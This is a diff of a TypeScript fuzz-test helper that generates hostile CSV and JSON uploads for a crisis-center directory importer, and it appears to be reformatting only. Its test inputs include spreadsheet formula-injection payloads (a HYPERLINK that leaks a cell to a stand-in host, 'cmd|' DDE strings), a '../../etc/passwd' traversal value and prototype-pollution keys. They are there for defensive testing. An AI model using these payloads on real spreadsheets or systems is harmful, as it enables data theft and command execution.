@@ -18,33 +18,152 @@ export function sampleSlice(csv: string, centers: number): Table {
   const national = rows.filter((r) => r[col('kind')] === 'national');
   const open = rows.filter((r) => r[col('kind')] !== 'national' && r[col('hours')] === '24/7').slice(0, centers);
   const ids = new Set([...national, ...open].map((r) => r[col('id')]));
-  const kept = [...national, ...open].map((r) => r.map((cell, i) => (i === col('backupId') && !ids.has(cell) ? '' : cell)));
+  const kept = [...national, ...open].map((r) =>
+    r.map((cell, i) => (i === col('backupId') && !ids.has(cell) ? '' : cell)),
+  );
   return { header: header!, rows: kept };
 }
 
 /** Values a spreadsheet would run as a formula, with and without the apostrophe that escapes them. */
 export const formulaCell = fc.constantFrom(
-  '=HYPERLINK("http://x.example/?leak="&A1,"help")', '=1+1', '+cmd|\' /C calc\'!A0', '-1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)', '\t=1', '\r=1', '=', '+', '-', '@',
-  "'=HYPERLINK(\"http://x\")", "'+1", "'-x", "'@SUM(1)", "''=1+1", "'''+x", "' =1", 'a=1', ' =1',
+  '=HYPERLINK("http://x.example/?leak="&A1,"help")',
+  '=1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+2',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1,2)',
+  '\t=1',
+  '\r=1',
+  '=',
+  '+',
+  '-',
+  '@',
+  '\'=HYPERLINK("http://x")',
+  "'+1",
+  "'-x",
+  "'@SUM(1)",
+  "''=1+1",
+  "'''+x",
+  "' =1",
+  'a=1',
+  ' =1',
 );
-const quotedCell = fc.constantFrom('a"b', '"quoted"', '"unbalanced', 'a""b', 'he said "hi", ok', '"', '""', '"a"b"', 'line\nbreak', 'cr\rin', 'tab\tin', ',', 'a,b,c');
-const hugeCell = fc.constantFrom('x'.repeat(100_000), 'é'.repeat(40_000), `=${'A1&'.repeat(20_000)}A1`, '9'.repeat(5_000));
-const badPhone = fc.constantFrom('555-not-a-number', '+44 20 7946 0958', '911', '0000000000', '1e10', '+1 800 555 0100 ext 5', '+1212555010', '(212) 555-0143 or (212) 555-0144', 'tel:', '+-12125550100');
-const badCoordinate = fc.constantFrom('95', '-91', '181', '-181', 'NaN', 'Infinity', '1e400', '0x10', '40,7', '40.7.1', '--40', '١٢');
-const badTimeZone = fc.constantFrom('America/Gotham', '+05:00', '../../etc/passwd', 'EST5EDTX', 'america/new york', 'Local', 'GMT+25');
-const badHours = fc.constantFrom('Mo-Fr 25:00-26:00', 'mo-fr 09:00-17:00', 'Mo', '-', ';;', '24/8', 'Mo-Fr 9-5', 'Xx-Yy 09:00-17:00', 'Mo-Fr 09:00-17:00-18:00', 'always');
-const prototypeWord = fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasownproperty', 'valueof', '__defineGetter__');
-const unicodeCell = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 30 }), fc.constantFrom('\u202eevil', '\ufeffid', 'Zoë Café — 24 h', '💜 help', '\u0000', 'a\u0007b', '\u2028', 'ＮＹ'));
+const quotedCell = fc.constantFrom(
+  'a"b',
+  '"quoted"',
+  '"unbalanced',
+  'a""b',
+  'he said "hi", ok',
+  '"',
+  '""',
+  '"a"b"',
+  'line\nbreak',
+  'cr\rin',
+  'tab\tin',
+  ',',
+  'a,b,c',
+);
+const hugeCell = fc.constantFrom(
+  'x'.repeat(100_000),
+  'é'.repeat(40_000),
+  `=${'A1&'.repeat(20_000)}A1`,
+  '9'.repeat(5_000),
+);
+const badPhone = fc.constantFrom(
+  '555-not-a-number',
+  '+44 20 7946 0958',
+  '911',
+  '0000000000',
+  '1e10',
+  '+1 800 555 0100 ext 5',
+  '+1212555010',
+  '(212) 555-0143 or (212) 555-0144',
+  'tel:',
+  '+-12125550100',
+);
+const badCoordinate = fc.constantFrom(
+  '95',
+  '-91',
+  '181',
+  '-181',
+  'NaN',
+  'Infinity',
+  '1e400',
+  '0x10',
+  '40,7',
+  '40.7.1',
+  '--40',
+  '١٢',
+);
+const badTimeZone = fc.constantFrom(
+  'America/Gotham',
+  '+05:00',
+  '../../etc/passwd',
+  'EST5EDTX',
+  'america/new york',
+  'Local',
+  'GMT+25',
+);
+const badHours = fc.constantFrom(
+  'Mo-Fr 25:00-26:00',
+  'mo-fr 09:00-17:00',
+  'Mo',
+  '-',
+  ';;',
+  '24/8',
+  'Mo-Fr 9-5',
+  'Xx-Yy 09:00-17:00',
+  'Mo-Fr 09:00-17:00-18:00',
+  'always',
+);
+const prototypeWord = fc.constantFrom(
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasownproperty',
+  'valueof',
+  '__defineGetter__',
+);
+const unicodeCell = fc.oneof(
+  fc.string({ unit: 'grapheme', maxLength: 30 }),
+  fc.constantFrom('\u202eevil', '\ufeffid', 'Zoë Café — 24 h', '💜 help', '\u0000', 'a\u0007b', '\u2028', 'ＮＹ'),
+);
 const binaryCell = fc.string({ unit: 'binary', maxLength: 40 });
 
 /** A cell value from any of the hostile families (or a plain one). */
 export const hostileCell: fc.Arbitrary<string> = fc.oneof(
-  formulaCell, quotedCell, hugeCell, badPhone, badCoordinate, badTimeZone, badHours, prototypeWord, unicodeCell, binaryCell,
+  formulaCell,
+  quotedCell,
+  hugeCell,
+  badPhone,
+  badCoordinate,
+  badTimeZone,
+  badHours,
+  prototypeWord,
+  unicodeCell,
+  binaryCell,
   fc.constantFrom('', ' ', 'NY', 'national', 'affiliate', '24/7', '10001', '+12125550100', 'en es'),
 );
 
 /** Header names a spreadsheet or a person might produce. */
-const columnName = fc.oneof(fc.constantFrom(...AFFILIATE_COLUMNS), fc.constantFrom('Phone', ' phone', 'phone ', 'telephone', '', '"id"', '\ufeffid', '=cmd', 'x'.repeat(1000), '__proto__', 'constructor'), unicodeCell);
+const columnName = fc.oneof(
+  fc.constantFrom(...AFFILIATE_COLUMNS),
+  fc.constantFrom(
+    'Phone',
+    ' phone',
+    'phone ',
+    'telephone',
+    '',
+    '"id"',
+    '\ufeffid',
+    '=cmd',
+    'x'.repeat(1000),
+    '__proto__',
+    'constructor',
+  ),
+  unicodeCell,
+);
 
 export type Mutation =
   | { kind: 'setCell'; row: number; column: string; value: string }
@@ -63,29 +182,58 @@ const rowIndex = fc.nat({ max: 1000 });
 const columnIndex = fc.nat({ max: 40 });
 
 export const hostileMutation: fc.Arbitrary<Mutation> = fc.oneof(
-  { arbitrary: fc.record({ kind: fc.constant('setCell' as const), row: rowIndex, column: fc.constantFrom(...AFFILIATE_COLUMNS), value: hostileCell }), weight: 6 },
+  {
+    arbitrary: fc.record({
+      kind: fc.constant('setCell' as const),
+      row: rowIndex,
+      column: fc.constantFrom(...AFFILIATE_COLUMNS),
+      value: hostileCell,
+    }),
+    weight: 6,
+  },
   fc.record({ kind: fc.constant('dropColumn' as const), index: columnIndex }),
   fc.record({ kind: fc.constant('renameColumn' as const), index: columnIndex, name: columnName }),
   fc.record({ kind: fc.constant('duplicateColumn' as const), index: columnIndex }),
   fc.record({ kind: fc.constant('addColumn' as const), name: columnName, value: hostileCell }),
-  fc.record({ kind: fc.constant('reorderColumns' as const), keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }) }),
+  fc.record({
+    kind: fc.constant('reorderColumns' as const),
+    keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }),
+  }),
   { arbitrary: fc.record({ kind: fc.constant('duplicateId' as const), from: rowIndex, to: rowIndex }), weight: 2 },
   fc.record({ kind: fc.constant('emptyRow' as const), at: rowIndex }),
   fc.record({ kind: fc.constant('dropRow' as const), row: rowIndex }),
   fc.record({ kind: fc.constant('shortRow' as const), row: rowIndex, cells: fc.nat({ max: 14 }) }),
-  fc.record({ kind: fc.constant('extraCells' as const), row: rowIndex, cells: fc.array(hostileCell, { minLength: 1, maxLength: 3 }) }),
+  fc.record({
+    kind: fc.constant('extraCells' as const),
+    row: rowIndex,
+    cells: fc.array(hostileCell, { minLength: 1, maxLength: 3 }),
+  }),
 );
 
 /** Text that keeps a table valid: names in any script, quotes, commas, apostrophes before formula characters. */
 const benignName = fc.oneof(
   // Two apostrophes: valid as CSV (read as one) and as JSON (taken as they are), and either way stored starting with an apostrophe.
-  fc.constantFrom('Centro de Crisis "La Esperanza" (fictional)', 'Zoë Café, 24 h (fictional)', "''=1+1 (fictional)", "''@home (fictional)", "''-dash (fictional)", "'''+x (fictional)", "O'Brien House (fictional)", '💜 Help (fictional)'),
-  fc.string({ unit: fc.constantFrom('a', 'é', '漢', '"', ',', "'", ' ', '=', '+'), minLength: 1, maxLength: 12 }).map((s) => `x${s}`),
+  fc.constantFrom(
+    'Centro de Crisis "La Esperanza" (fictional)',
+    'Zoë Café, 24 h (fictional)',
+    "''=1+1 (fictional)",
+    "''@home (fictional)",
+    "''-dash (fictional)",
+    "'''+x (fictional)",
+    "O'Brien House (fictional)",
+    '💜 Help (fictional)',
+  ),
+  fc
+    .string({ unit: fc.constantFrom('a', 'é', '漢', '"', ',', "'", ' ', '=', '+'), minLength: 1, maxLength: 12 })
+    .map((s) => `x${s}`),
 );
 
 export const benignMutation: fc.Arbitrary<Mutation> = fc.oneof(
   fc.record({ kind: fc.constant('setCell' as const), row: rowIndex, column: fc.constant('name'), value: benignName }),
-  fc.record({ kind: fc.constant('reorderColumns' as const), keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }) }),
+  fc.record({
+    kind: fc.constant('reorderColumns' as const),
+    keys: fc.array(fc.nat(), { minLength: 15, maxLength: 15 }),
+  }),
   fc.record({ kind: fc.constant('emptyRow' as const), at: rowIndex }),
 );
 
@@ -153,7 +301,12 @@ export function applyMutations(table: Table, mutations: readonly Mutation[]): Ta
   return { header, rows };
 }
 
-export type Writer = { bom: boolean; eol: '\n' | '\r\n' | '\r' | 'mixed'; quoting: 'csv' | 'all' | 'naive'; trailingEol: boolean };
+export type Writer = {
+  bom: boolean;
+  eol: '\n' | '\r\n' | '\r' | 'mixed';
+  quoting: 'csv' | 'all' | 'naive';
+  trailingEol: boolean;
+};
 
 export const anyWriter: fc.Arbitrary<Writer> = fc.record({
   bom: fc.boolean(),
@@ -178,13 +331,23 @@ export function writeTable(table: Table, writer: Writer): string {
       ? records.map((r) => r.join(','))
       : records.map((r) => stringify([r], { quoted: writer.quoting === 'all' }).replace(/\n$/, ''));
   const eols = ['\n', '\r\n', '\r'];
-  const body = lines.map((line, i) => line + (i === lines.length - 1 && !writer.trailingEol ? '' : writer.eol === 'mixed' ? eols[i % 3]! : writer.eol)).join('');
+  const body = lines
+    .map(
+      (line, i) =>
+        line +
+        (i === lines.length - 1 && !writer.trailingEol ? '' : writer.eol === 'mixed' ? eols[i % 3]! : writer.eol),
+    )
+    .join('');
   return (writer.bom ? '\ufeff' : '') + body;
 }
 
 /** The table as a JSON upload: one object per row, blank rows left out. */
 export const asJson = (table: Table): string =>
-  JSON.stringify(table.rows.filter((r) => r.some((cell) => cell.trim() !== '')).map((r) => Object.fromEntries(table.header.map((c, i) => [c, r[i] ?? '']))));
+  JSON.stringify(
+    table.rows
+      .filter((r) => r.some((cell) => cell.trim() !== ''))
+      .map((r) => Object.fromEntries(table.header.map((c, i) => [c, r[i] ?? '']))),
+  );
 
 /** A cell a spreadsheet would run: a formula start that is not a plain number. */
 export const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
